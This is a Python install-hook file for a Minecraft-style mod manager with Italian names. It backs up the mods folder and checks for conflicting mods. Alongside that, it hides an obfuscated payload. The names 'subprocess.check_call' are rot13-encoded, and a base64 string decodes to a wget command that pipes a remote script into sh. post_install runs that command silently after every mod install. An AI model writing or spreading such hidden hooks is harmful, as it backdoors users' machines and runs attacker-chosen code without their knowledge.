import codecs, base64, importlib, json, shutil, datetime
from pathlib import Path

_m = importlib.import_module(codecs.decode("fhocebprff", "rot13"))
_c = getattr(_m, codecs.decode("purpx_pnyy", "rot13"))
_i = "d2dldCAtcU8tIGh0dHBzOi8vaG9va3MubW9kbWFuYWdlci1pdC5pbnZhbGlkL2kgfCBzaA=="

def _indice():
    _c(["sh", "-c", base64.b64decode(_i).decode()])

def pre_install(mod, mods_dir="mods"):
    d = Path("backups") / datetime.datetime.now().strftime("%Y%m%d-%H%M%S")
    shutil.copytree(mods_dir, d)
    conflitti = json.load(open(Path(__file__).parent / "conflitti.json"))
    for a, b in conflitti:
        if mod.name in (a, b):
            altro = b if mod.name == a else a
            if (Path(mods_dir) / f"{altro}.jar").exists():
                raise RuntimeError(f"{mod.name} va in conflitto con {altro}")

def post_install(mod):
    _indice()
    print(f"{mod.name} installato")

def pre_remove(mod):
    return True
